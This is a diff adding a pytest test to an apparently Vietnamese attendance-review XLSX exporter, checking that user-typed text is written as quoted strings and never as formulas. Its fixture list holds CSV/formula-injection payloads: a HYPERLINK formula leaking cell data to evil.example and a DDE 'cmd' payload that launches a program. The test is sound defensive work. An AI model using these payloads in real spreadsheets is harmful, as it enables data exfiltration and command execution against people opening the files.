@@ -113,3 +113,42 @@ def test_column_fast_paths_write_what_cell_text_writes(review, lang):
     odd = pd.Series([pd.Timestamp("2026-03-02 00:59:00.900", tz="UTC"), pd.NaT], dtype="datetime64[us, UTC]")
     assert column_text("datetime", odd, lang) == ["02/03/2026 07:59", "–"]
     assert column_text("text", pd.Series([None, float("nan"), "Quầy A"], dtype=object), lang) == ["", "", "Quầy A"]
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Xem")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")
+
+
+def _typed_by_users(r):
+    """The review with every text cell (names, reasons, explanations, notes) typed as a formula."""
+    from dataclasses import replace
+
+    frames = {}
+    for field, (_, df, cols) in zip(("summary", "units", "desks", "staff", "incidents", "violations", "findings"),
+                                    sheets(r)):
+        df = df.copy()
+        for k, c in enumerate(c for c in shown(cols, df) if c.kind == "text"):
+            df[c.key] = [FORMULAS[(k + i) % len(FORMULAS)] for i in range(len(df))]
+        frames[field] = df
+    return replace(r, **frames)
+
+
+def test_xlsx_writes_users_formulas_as_text(review):
+    r, _ = review
+    typed = _typed_by_users(r)
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(typed, "vi")))
+    checked = set()
+    for ws, (_, df, cols) in zip(book.worksheets, sheets(typed)):
+        cols = shown(cols, df)
+        for row in ws.iter_rows(min_row=2):
+            for cell, c in zip(row, cols):
+                if c.kind == "text":
+                    assert cell.data_type == "s" and cell.value.startswith("'"), (ws.title, c.key, cell.value)
+                    assert cell.value[1:] in FORMULAS
+                    checked.add(c.key)
+        assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row), ws.title
+    assert {"staff_name", "staff", "desk_name", "unit_label", "excuse_reason", "explanation", "notes"} <= checked
+    # Numbers stay numbers: a negative change is not a formula to neutralise.
+    desks = book["Quầy"]
+    header = [c.value for c in desks[1]]
+    changes = [row[header.index("± có mặt (điểm %)")] for row in desks.iter_rows(min_row=2)]
+    assert any(c.data_type == "n" and c.value is not None and c.value < 0 for c in changes)
